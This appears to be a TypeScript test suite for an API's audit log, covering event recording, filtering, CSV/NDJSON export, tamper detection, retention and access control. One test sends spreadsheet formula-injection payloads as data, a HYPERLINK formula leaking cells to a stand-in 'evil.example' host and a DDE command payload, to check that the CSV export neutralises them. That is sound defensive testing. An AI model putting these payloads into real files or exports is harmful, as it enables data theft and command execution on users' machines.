import { parse as parseCsv } from "csv-parse/sync";
import { sql } from "kysely";
import { describe, expect, it } from "vitest";
import { AUDIT_CSV_COLUMNS } from "../client-sdk/src/contract/index.js";
import { createAuditLogsService } from "../server/audit/audit-logs.service.js";
import { csvRecord } from "../server/audit/csv.js";
import { pruneExpiredEntries } from "../server/audit/retention.js";
import { addMember, call, createOrg, signup } from "./support/api.js";
import { record } from "./support/sockets.js";
import { useCluster } from "./support/suite.js";

const cluster = useCluster(2);
const A = () => cluster.nodes[0]!;
const B = () => cluster.nodes[1]!;

async function walk(orgId: string, token: string, query: string, between?: () => Promise<unknown>) {
  const seqs: number[] = [];
  let cursor: string | null = null;
  do {
    const q: string = `${query}${query ? "&" : ""}limit=3${cursor ? `&cursor=${cursor}` : ""}`;
    const page = await call(A(), "GET", `/v1/orgs/${orgId}/audit-logs?${q}`, { token });
    expect(page.status, JSON.stringify(page.body)).toBe(200);
    seqs.push(...page.body.items.map((e: { seq: number }) => e.seq));
    cursor = page.body.nextCursor;
    await between?.();
  } while (cursor);
  return seqs;
}

describe("audit log", () => {
  it("records every mutation once, with the right actor (user or API key), target and context", async () => {
    // Over a real socket, so the context has the caller's address.
    const http = { url: A().url };
    const owner = await signup(A(), "owner");
    const org = await createOrg(A(), owner.token);
    const bob = await signup(A(), "bob");
    await addMember(A().db, org.id, bob.user.id, "viewer");
    const key = (
      await call(http, "POST", `/v1/orgs/${org.id}/api-keys`, {
        token: owner.token,
        body: { name: "ops", role: "editor" },
      })
    ).body;
    let n = 0;
    const as = (token: string) => ({ token, headers: { "x-request-id": `req-${++n}`, "user-agent": "audit-test" } });
    const project = (
      await call(http, "POST", `/v1/orgs/${org.id}/projects`, { ...as(key.secret), body: { name: "P" } })
    ).body.id;
    const P = `/v1/orgs/${org.id}/projects/${project}`;
    const res = (await call(http, "POST", `${P}/resources`, { ...as(key.secret), body: { type: "vps", name: "v" } }))
      .body.id;
    await call(http, "PATCH", `${P}/resources/${res}`, { ...as(key.secret), body: { name: "v2" } });
    await call(http, "DELETE", `${P}/resources/${res}`, as(key.secret));
    await call(http, "PATCH", `/v1/orgs/${org.id}`, { ...as(owner.token), body: { name: "Renamed" } });
    await call(http, "PUT", `/v1/orgs/${org.id}/billing`, {
      ...as(owner.token),
      body: { contactEmail: "b@example.com" },
    });
    await call(http, "PUT", `${P}/members/${bob.user.id}`, { ...as(owner.token), body: { role: "viewer" } });
    await call(http, "PATCH", `/v1/orgs/${org.id}/members/${bob.user.id}`, {
      ...as(owner.token),
      body: { role: "editor" },
    });
    await call(http, "DELETE", `/v1/orgs/${org.id}/members/${bob.user.id}`, as(owner.token));

    const page = await call(http, "GET", `/v1/orgs/${org.id}/audit-logs?limit=500`, { token: owner.token });
    const entries = [...page.body.items].reverse();
    expect(entries.map((e: { type: string }) => e.type)).toEqual([
      "org.created",
      "api_key.created",
      "project.created",
      "resource.created",
      "resource.updated",
      "resource.deleted",
      "org.updated",
      "billing.updated",
      "project.member_added",
      "member.role_changed",
      "member.removed",
    ]);
    const byKey = entries.slice(2, 6);
    for (const e of byKey) expect(e.actor).toEqual({ type: "api_key", id: key.apiKey.id });
    for (const e of entries.slice(6)) expect(e.actor).toEqual({ type: "user", id: owner.user.id, email: owner.email });
    expect(entries.slice(2).map((e: { context: { requestId: string } }) => e.context.requestId)).toEqual(
      Array.from({ length: 9 }, (_, i) => `req-${i + 1}`),
    );
    for (const e of entries.slice(2))
      expect(e.context).toMatchObject({ userAgent: "audit-test", ip: expect.any(String) });
    expect(entries[3].target).toEqual({ type: "resource", id: res });
    expect(entries[3].projectId).toBe(project);
    expect(entries.at(-1).target).toEqual({ type: "user", id: bob.user.id });
  });

  it("filters by actor, action (exact and prefix), project and time, and walks every entry once while entries are added", async () => {
    const owner = await signup(A(), "owner");
    const org = await createOrg(A(), owner.token);
    const other = await signup(A(), "other");
    await addMember(A().db, org.id, other.user.id, "owner");
    const P = (await call(A(), "POST", `/v1/orgs/${org.id}/projects`, { token: owner.token, body: { name: "P" } })).body
      .id;
    for (let i = 0; i < 5; i++) {
      await call(A(), "POST", `/v1/orgs/${org.id}/projects/${P}/resources`, {
        token: other.token,
        body: { type: "vps", name: `v${i}` },
      });
      await call(A(), "PATCH", `/v1/orgs/${org.id}`, { token: owner.token, body: { name: `n${i}` } });
    }
    const all = await call(A(), "GET", `/v1/orgs/${org.id}/events?limit=500`, { token: owner.token });
    const events = all.body.items as {
      seq: number;
      type: string;
      actor: { id: string };
      projectId: string;
      occurredAt: string;
    }[];
    const newestFirst = (pred: (e: (typeof events)[number]) => boolean) =>
      events
        .filter(pred)
        .map((e) => e.seq)
        .reverse();

    let added = 0;
    const addOne = async () => {
      added++;
      await call(A(), "PATCH", `/v1/orgs/${org.id}`, { token: owner.token, body: { name: `during ${added}` } });
    };
    // Entries committed between pages do not shift the walk: every entry present at the start, once.
    expect(await walk(org.id, owner.token, "", addOne)).toEqual(newestFirst(() => true));
    expect(await walk(org.id, owner.token, `actorId=${other.user.id}`, addOne)).toEqual(
      newestFirst((e) => e.actor.id === other.user.id),
    );
    expect(await walk(org.id, owner.token, "action=resource.created")).toEqual(
      newestFirst((e) => e.type === "resource.created"),
    );
    const orgPrefix = await walk(org.id, owner.token, "action=org.*", addOne);
    expect(orgPrefix.slice(-6)).toEqual(newestFirst((e) => e.type.startsWith("org.")));
    expect(await walk(org.id, owner.token, `projectId=${P}`, addOne)).toEqual(newestFirst((e) => e.projectId === P));
    const from = events[3]!.occurredAt;
    const to = events[8]!.occurredAt;
    expect(await walk(org.id, owner.token, `from=${from}&to=${to}`)).toEqual(
      newestFirst((e) => e.occurredAt >= from && e.occurredAt < to),
    );
    for (const bad of [
      "action=member",
      "action=*",
      "from=yesterday",
      `from=${to}&to=${from}`,
      "limit=0",
      "limit=501",
      "cursor=zzz",
    ]) {
      const res = await call(A(), "GET", `/v1/orgs/${org.id}/audit-logs?${bad}`, { token: owner.token });
      expect(res.status, bad).toBe(400);
    }
  });

  it("exports CSV and NDJSON that parse, match the query's count, and are themselves audited", async () => {
    const owner = await signup(A(), "owner");
    const org = await createOrg(A(), owner.token);
    for (let i = 0; i < 7; i++) {
      await call(A(), "PATCH", `/v1/orgs/${org.id}`, {
        token: owner.token,
        body: { name: `Tricky, "quoted"\nname ${i}` },
      });
    }
    const count = (
      await call(A(), "GET", `/v1/orgs/${org.id}/audit-logs?limit=500&action=org.*`, { token: owner.token })
    ).body.items.length;
    expect(count).toBe(8);

    const csvRes = await fetch(`${A().url}/v1/orgs/${org.id}/audit-logs/export?format=csv&action=org.*`, {
      headers: { authorization: `Bearer ${owner.token}` },
    });
    expect(csvRes.headers.get("content-type")).toContain("text/csv");
    const rows = parseCsv(await csvRes.text(), { relax_column_count: false }) as string[][];
    expect(rows[0]).toEqual([...AUDIT_CSV_COLUMNS]);
    expect(rows).toHaveLength(count + 1);
    expect(rows.slice(1).map((r) => Number(r[0]))).toEqual(Array.from({ length: 8 }, (_, i) => i + 1));
    expect(JSON.parse(rows[2]![9]!)).toEqual({ name: 'Tricky, "quoted"\nname 0' });

    const ndRes = await fetch(`${A().url}/v1/orgs/${org.id}/audit-logs/export?format=ndjson`, {
      headers: { authorization: `Bearer ${owner.token}` },
    });
    const lines = (await ndRes.text())
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l));
    // Everything up to the head when it started: the 8 entries and the CSV export's own entry.
    expect(lines.map((e) => e.seq)).toEqual(Array.from({ length: 9 }, (_, i) => i + 1));
    expect(lines[8]).toMatchObject({ type: "audit.exported", data: { format: "csv", count: 8 } });
    expect(lines[0]).toHaveProperty("hash");
    await new Promise((r) => setTimeout(r, 50));
    const after = await call(A(), "GET", `/v1/orgs/${org.id}/audit-logs?limit=1`, { token: owner.token });
    expect(after.body.items[0]).toMatchObject({
      seq: 10,
      type: "audit.exported",
      data: { format: "ndjson", count: 9 },
    });
  });

  it("neutralises CSV cells that a spreadsheet would run as formulas, and keeps NDJSON verbatim", async () => {
    // signup() names the user after the label and starts the email with it.
    const owner = await signup(A(), "-owner");
    const org = await createOrg(A(), owner.token);
    const ops = await signup(A(), "+ops");
    await addMember(A().db, org.id, ops.user.id, "owner");
    const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    const dde = "@SUM(1+1)*cmd|' /C calc'!A0";
    await call(A(), "PATCH", `/v1/orgs/${org.id}`, {
      token: owner.token,
      headers: { "user-agent": hyperlink, "x-request-id": "-req-1" },
      body: { name: "one" },
    });
    await call(A(), "PATCH", `/v1/orgs/${org.id}`, {
      token: ops.token,
      headers: { "user-agent": dde },
      body: { name: "two" },
    });
    const csv = await call(A(), "GET", `/v1/orgs/${org.id}/audit-logs/export?format=csv`, { token: owner.token });
    const rows = parseCsv(csv.body, { relax_column_count: false }) as string[][];
    const col = (name: (typeof AUDIT_CSV_COLUMNS)[number]) => AUDIT_CSV_COLUMNS.indexOf(name);
    const [, created, byOwner, byOps] = rows as [string[], string[], string[], string[]];
    expect(created[col("actorEmail")]).toBe(`'${owner.email}`);
    expect(byOwner[col("userAgent")]).toBe(`'${hyperlink}`);
    expect(byOwner[col("requestId")]).toBe("'-req-1");
    expect(byOps[col("actorEmail")]).toBe(`'${ops.email}`);
    expect(byOps[col("userAgent")]).toBe(`'${dde}`);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Tab and CR cannot reach a cell through HTTP headers (they are trimmed); the writer covers them too.
    expect(csvRecord(["\tcmd", "\rcmd", "-1", 7])).toBe(`'\tcmd,"'\rcmd",'-1,7\r\n`);

    // NDJSON is data for programs, not a spreadsheet: the caller's text as it came.
    const nd = await call(A(), "GET", `/v1/orgs/${org.id}/audit-logs/export?format=ndjson`, { token: owner.token });
    const lines = (nd.body as string)
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l));
    expect(lines[1].context).toMatchObject({ userAgent: hyperlink, requestId: "-req-1" });
    expect(lines[2].actor.email).toBe(ops.email);
  });

  it("verify is ok, then points at the row changed behind the API's back", async () => {
    const owner = await signup(A(), "owner");
    const org = await createOrg(A(), owner.token);
    for (let i = 0; i < 9; i++)
      await call(A(), "PATCH", `/v1/orgs/${org.id}`, { token: owner.token, body: { name: `v${i}` } });
    const url = `/v1/orgs/${org.id}/audit-logs/verify`;
    expect((await call(A(), "GET", url, { token: owner.token })).body).toEqual({ ok: true, checked: 10 });
    // Tampering, on purpose, with raw SQL: the point is a change that bypasses the API.
    await sql`update events set data = '{"name":"forged"}'::jsonb where org_id = ${org.id} and seq = 6`.execute(A().db);
    expect((await call(A(), "GET", url, { token: owner.token })).body).toEqual({
      ok: false,
      checked: 5,
      brokenAtSeq: 6,
    });
  });

  it("prunes entries past retention and keeps the chain verifiable from the first kept entry", async () => {
    const owner = await signup(A(), "owner");
    const org = await createOrg(A(), owner.token);
    await call(A(), "PATCH", `/v1/orgs/${org.id}`, {
      token: owner.token,
      body: { settings: { auditRetentionDays: 30 } },
    });
    for (let i = 0; i < 4; i++)
      await call(A(), "PATCH", `/v1/orgs/${org.id}`, { token: owner.token, body: { name: `v${i}` } });
    const events = (await call(A(), "GET", `/v1/orgs/${org.id}/events`, { token: owner.token })).body.items;
    // Pretend 30 days have passed since entry 3: entries 1..3 go.
    const now = new Date(Date.parse(events[2].occurredAt) + 30 * 86_400_000 + 1);
    const before = Date.parse(events[3].occurredAt) + 30 * 86_400_000 > now.getTime();
    expect(before).toBe(true);
    await pruneExpiredEntries(A().db, now);
    const kept = (await call(A(), "GET", `/v1/orgs/${org.id}/events`, { token: owner.token })).body.items;
    expect(kept[0].seq).toBeGreaterThan(1);
    expect(kept.at(-1).seq).toBe(6);
    expect((await call(A(), "GET", `/v1/orgs/${org.id}/audit-logs/verify`, { token: owner.token })).body).toEqual({
      ok: true,
      checked: kept.length,
    });
    // Dropping the first kept entry too is detected: the chain no longer starts at the anchor.
    await sql`delete from events where org_id = ${org.id} and seq = ${kept[0].seq}`.execute(A().db);
    const broken = (await call(A(), "GET", `/v1/orgs/${org.id}/audit-logs/verify`, { token: owner.token })).body;
    expect(broken).toMatchObject({ ok: false, brokenAtSeq: kept[0].seq });
  });

  it("streams context and hash live to owners and audit keys only", async () => {
    const owner = await signup(A(), "owner");
    const org = await createOrg(A(), owner.token);
    const editor = await signup(A(), "editor");
    await addMember(A().db, org.id, editor.user.id, "editor");
    const auditKey = (
      await call(A(), "POST", `/v1/orgs/${org.id}/api-keys`, {
        token: owner.token,
        body: { name: "siem", role: "viewer", audit: true },
      })
    ).body;
    const tails = [
      record(B().url, org.id, owner.token),
      record(B().url, org.id, auditKey.secret),
      record(A().url, org.id, editor.token),
    ];
    await Promise.all(tails.map((t) => t.ready));
    await call(A(), "PATCH", `/v1/orgs/${org.id}`, { token: editor.token, body: {} }); // 400, no event
    await call(A(), "PATCH", `/v1/orgs/${org.id}`, { token: owner.token, body: { name: "x" } });
    await Promise.all(tails.map((t) => t.waitForSeq(3)));
    expect(tails[0]!.events[0]).toMatchObject({
      seq: 3,
      hash: expect.any(String),
      context: { requestId: expect.any(String) },
    });
    expect(tails[1]!.events[0]).toEqual(tails[0]!.events[0]);
    expect(tails[2]!.events[0]).not.toHaveProperty("context");
    expect(tails[2]!.events[0]).not.toHaveProperty("hash");
    for (const t of tails) t.close();
  });

  it("refuses plain API keys (403) and keys of another org (404) on every audit route", async () => {
    const owner = await signup(A(), "owner");
    const org = await createOrg(A(), owner.token);
    const other = await createOrg(A(), owner.token, "Other");
    const key = async (orgId: string, audit: boolean) =>
      (
        await call(A(), "POST", `/v1/orgs/${orgId}/api-keys`, {
          token: owner.token,
          body: { name: "k", role: "owner", audit },
        })
      ).body.secret as string;
    const plain = await key(org.id, false);
    const foreign = await key(other.id, true);
    const audit = await key(org.id, true);
    for (const path of ["audit-logs", "audit-logs/export", "audit-logs/verify"]) {
      const url = `/v1/orgs/${org.id}/${path}`;
      expect((await call(A(), "GET", url, { token: plain })).status, path).toBe(403);
      expect((await call(A(), "GET", url, { token: foreign })).status, path).toBe(404);
      expect((await call(A(), "GET", url, { token: audit })).status, path).toBe(200);
    }
  });

  it("records an export even when the reader's access ends during the download", async () => {
    const owner = await signup(A(), "owner");
    const org = await createOrg(A(), owner.token);
    const ops = await signup(A(), "ops");
    await addMember(A().db, org.id, ops.user.id, "owner");
    const service = createAuditLogsService({ db: A().db, sink: { committed: async () => {} } });
    const actor = { type: "user", userId: ops.user.id, email: ops.email, sessionId: "s" } as const;
    const access = {
      orgId: org.id,
      role: "owner",
      userId: ops.user.id,
      audit: true,
      isApiKey: false,
      mfaEnabled: false,
      mfaMissing: false,
    } as const;
    const chunks = service.exportChunks({ actor, context: { ip: null, userAgent: null, requestId: "cut" } }, access, {
      format: "csv",
    });
    expect((await chunks.next()).value).toContain("seq,occurredAt");
    // The reader is removed while the download is under way; the export still ends on its record.
    await call(A(), "DELETE", `/v1/orgs/${org.id}/members/${ops.user.id}`, { token: owner.token });
    while (!(await chunks.next()).done) {}
    const last = (await call(A(), "GET", `/v1/orgs/${org.id}/audit-logs?limit=1`, { token: owner.token })).body
      .items[0];
    expect(last).toMatchObject({ type: "audit.exported", actor: { type: "user", id: ops.user.id } });
  });
});
